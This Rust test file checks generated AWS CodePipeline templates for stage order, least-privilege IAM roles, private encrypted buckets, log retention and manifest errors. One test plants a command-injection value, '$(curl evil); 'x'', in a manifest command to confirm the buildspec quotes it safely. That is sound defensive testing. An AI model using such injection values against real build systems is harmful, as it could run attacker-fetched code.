//! Pipelines as CodePipeline runs them.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use landfall_iam::StateBucket;
use landfall_manifest::SourceFile;
use landfall_model::app::App;
use landfall_stack::delivery::{Ask, Exported, Undeliverable, codepipeline};
use serde_json::Value;

const MANIFEST: &str = include_str!("manifests/delivery.yml");

fn app() -> App {
    let loaded = landfall_manifest::load(&SourceFile::new("landfall.yml", MANIFEST), &|_| None);
    let mut app = loaded.unwrap_or_else(|found| panic!("{found:#?}")).app;
    app.pipelines = serde_json::from_str(include_str!("manifests/pipelines.json")).unwrap();
    app
}

fn ask(app: &App) -> Ask<'_> {
    Ask {
        app,
        pipelines: &[],
        account: None,
        region: None,
        state: None,
        url: Some("https://example.com/landfall.tar.gz"),
        sha256: None,
    }
}

fn made(app: &App) -> Exported {
    codepipeline(&ask(app)).unwrap()
}

fn json(exported: &Exported) -> Value {
    serde_json::from_str(&exported.template.json()).unwrap()
}

#[test]
fn both_pipelines_of_system_c() {
    let app = app();
    let exported = made(&app);
    insta::assert_snapshot!("pipelines", exported.template.yaml());
    insta::assert_snapshot!("notes", exported.notes.join("\n"));
    assert_eq!(exported, made(&app));
}

/// Stage → names of its actions, those side by side in one text.
fn stages(template: &Value, pipeline: &str) -> Vec<(String, Vec<String>)> {
    let stages = template["Resources"][pipeline]["Properties"]["Stages"].as_array().unwrap();
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let of = |stage: &Value| {
        let mut rows: Vec<String> = Vec::new();
        for action in stage["Actions"].as_array().unwrap() {
            let order = usize::try_from(action["RunOrder"].as_u64().unwrap()).unwrap();
            match rows.get_mut(order - 1) {
                Some(row) => *row += &format!(" + {}", text(&action["Name"])),
                None => rows.push(text(&action["Name"])),
            }
        }
        (text(&stage["Name"]), rows)
    };
    stages.iter().map(of).collect()
}

#[test]
fn the_order_is_that_of_the_manifest() {
    let template = json(&made(&app()));
    let row = |name: &str, actions: &[&str]| (name.to_owned(), actions.iter().map(|one| (*one).to_owned()).collect());
    assert_eq!(
        stages(&template, "DevPipeline"),
        [
            row("Source", &["Source"]),
            row("Build", &["Images + Synth"]),
            row("Dev", &["DeployDev", "VerifyDev", "PublishDev"])
        ]
    );
    assert_eq!(
        stages(&template, "ReleasePipeline"),
        [
            row("Source", &["Source"]),
            row("Release", &["Release"]),
            row("Staging", &["DeployStaging", "VerifyStaging"]),
            row("Prod", &["Approve", "DeployProd", "VerifyProd"])
        ]
    );
    let approve = &template["Resources"]["ReleasePipeline"]["Properties"]["Stages"][3]["Actions"][0];
    assert_eq!(approve["Configuration"]["NotificationArn"]["Ref"], "ApprovalTopic");
    assert_eq!(approve["Configuration"]["ExternalEntityLink"], "https://staging.shop.example.com/");
    assert_eq!(approve["TimeoutInMinutes"], 4320);
}

/// Every role's statements, by its logical id.
fn rights(template: &Value) -> Vec<(String, Vec<Value>)> {
    let roles = template["Resources"].as_object().unwrap().iter().filter(|(_, one)| one["Type"] == "AWS::IAM::Role");
    let of = |(id, role): (&String, &Value)| {
        assert!(role["Properties"]["ManagedPolicyArns"].is_null(), "{id}");
        let policies = role["Properties"]["Policies"].as_array().unwrap();
        let all = policies.iter().flat_map(|one| one["PolicyDocument"]["Statement"].as_array().unwrap().clone());
        (id.clone(), all.collect())
    };
    roles.map(of).collect()
}

#[test]
fn no_role_may_everything() {
    let template = json(&made(&app()));
    let roles = rights(&template);
    assert_eq!(roles.len(), 12, "{:?}", roles.iter().map(|(id, _)| id).collect::<Vec<_>>());
    for (id, statements) in &roles {
        for statement in statements {
            for action in statement["Action"].as_array().unwrap() {
                assert!(!action.as_str().unwrap().contains('*'), "{id}: {action}");
            }
            let all = statement["Resource"].as_array().unwrap().contains(&Value::from("*"));
            let reads = statement["Action"].as_array().unwrap().iter().all(|action| {
                let name = action.as_str().unwrap().split(':').nth(1).unwrap();
                name.starts_with("Describe") || name.starts_with("List") || name.starts_with("Get")
            });
            assert!(!all || reads || !statement["Condition"].is_null(), "{id}: {statement}");
        }
        let text = serde_json::to_string(statements).unwrap();
        let deploys = id.contains("Deploy");
        assert_eq!(text.contains("cloudformation:ExecuteChangeSet"), deploys, "{id}");
        assert_eq!(text.contains("ecr:PutImage"), id == "DevImagesRole", "{id}");
        assert_eq!(text.contains("ssm:PutParameter"), id.contains("Publish"), "{id}");
        assert_eq!(text.contains("iam:CreateRole"), deploys, "{id}");
        assert_eq!(text.contains("ecs:RunTask"), id == "DevDeployDevRole", "only there a task is run: {id}");
        assert_eq!(text.contains("sns:Publish"), id == "ReleasePipelineRole", "{id}");
        // What a stack is made of, CloudFormation makes.
        for statement in statements.iter().filter(|one| one["Sid"].as_str().unwrap().starts_with("Make")) {
            let via = &statement["Condition"]["ForAnyValue:StringEquals"]["aws:CalledVia"];
            assert!(
                via == "cloudformation.amazonaws.com" || statement["Sid"] == "MakeServiceLinkedRoles",
                "{id}: {statement}"
            );
        }
    }
    // No environment's job reaches another's stack.
    let prod = serde_json::to_string(&roles.iter().find(|(id, _)| id == "ReleaseDeployProdRole").unwrap().1).unwrap();
    assert!(prod.contains("stack/shop-prod/*") && !prod.contains("shop-staging") && !prod.contains("shop-dev"));
}

#[test]
fn buckets_are_private_encrypted_and_kept() {
    let template = json(&made(&app()));
    let buckets = template["Resources"].as_object().unwrap().iter().filter(|(_, one)| one["Type"] == "AWS::S3::Bucket");
    let mut count = 0;
    for (id, bucket) in buckets {
        count += 1;
        let properties = &bucket["Properties"];
        assert_eq!(bucket["DeletionPolicy"], "Retain");
        for key in ["BlockPublicAcls", "BlockPublicPolicy", "IgnorePublicAcls", "RestrictPublicBuckets"] {
            assert_eq!(properties["PublicAccessBlockConfiguration"][key], true, "{id}");
        }
        assert!(properties["BucketEncryption"].is_object(), "{id}");
        let policy = &template["Resources"][format!("{id}Policy")]["Properties"]["PolicyDocument"]["Statement"][0];
        assert_eq!(
            (policy["Effect"].as_str(), policy["Condition"]["Bool"]["aws:SecureTransport"].as_str()),
            (Some("Deny"), Some("false"))
        );
    }
    assert_eq!(count, 2);
    let app = app();
    let state = StateBucket { bucket: "acme-landfall".to_owned(), prefix: "shop".to_owned() };
    let given = json(&codepipeline(&Ask { state: Some(state), ..ask(&app) }).unwrap());
    assert!(given["Resources"]["StateBucket"].is_null());
    assert!(given.to_string().contains("arn:aws:s3:::acme-landfall/shop/*"));
}

#[test]
fn every_log_is_kept_for_a_while_and_no_longer() {
    let template = json(&made(&app()));
    let resources = template["Resources"].as_object().unwrap();
    let of = |kind: &str| resources.values().filter(|one| one["Type"] == kind).count();
    assert_eq!(of("AWS::Logs::LogGroup"), of("AWS::CodeBuild::Project"));
    for one in resources.values().filter(|one| one["Type"] == "AWS::Logs::LogGroup") {
        assert_eq!(one["Properties"]["RetentionInDays"], 30);
    }
}

#[test]
fn a_command_of_the_manifest_stays_one_word() {
    let mut app = app();
    let text = serde_json::to_string(&app.pipelines["dev"]).unwrap();
    assert!(text.contains("bin/migrate"));
    let text = text.replace("bin/migrate", "$(curl evil); 'x'");
    app.pipelines.insert("dev".to_owned(), serde_json::from_str(&text).unwrap());
    let template = json(&made(&app));
    let spec = template["Resources"]["DevDeployDevProject"]["Properties"]["Source"]["BuildSpec"].as_str().unwrap();
    assert!(spec.contains(r"-- '$(curl evil); '\\''x'\\'''"), "{spec}");
}

#[test]
fn what_cannot_be_is_said() {
    let fails = |change: fn(&mut App)| {
        let mut app = app();
        change(&mut app);
        codepipeline(&ask(&app)).unwrap_err()
    };
    assert_eq!(fails(|app| app.pipelines.clear()), Undeliverable::NoPipelines);
    assert_eq!(fails(|app| app.repositories.clear()), Undeliverable::Repositories("none".to_owned()));
    let branches = |branches: &[&str]| branches.iter().map(|&one| one.to_owned()).collect::<Vec<_>>();
    let globs = fails(|app| app.pipelines.get_mut("dev").unwrap().on.branches = vec!["release/*".to_owned()]);
    assert_eq!(globs, Undeliverable::Branches("dev".to_owned(), "`release/*`".to_owned()));
    assert_eq!(
        fails(|app| app.pipelines.get_mut("dev").unwrap().on.branches = Vec::new()),
        Undeliverable::Branches("dev".to_owned(), "no branch".to_owned())
    );
    assert_eq!(
        fails(|app| app.environments.get_mut("prod").unwrap().on = None),
        Undeliverable::Here("prod".to_owned())
    );
    let app = app();
    let only = branches(&["release"]);
    assert_eq!(
        codepipeline(&Ask { pipelines: &only, ..ask(&app) }),
        Err(Undeliverable::After("release".to_owned(), "dev".to_owned()))
    );
    let unknown = branches(&["nightly"]);
    assert_eq!(
        codepipeline(&Ask { pipelines: &unknown, ..ask(&app) }),
        Err(Undeliverable::NoPipeline("nightly".to_owned()))
    );
}
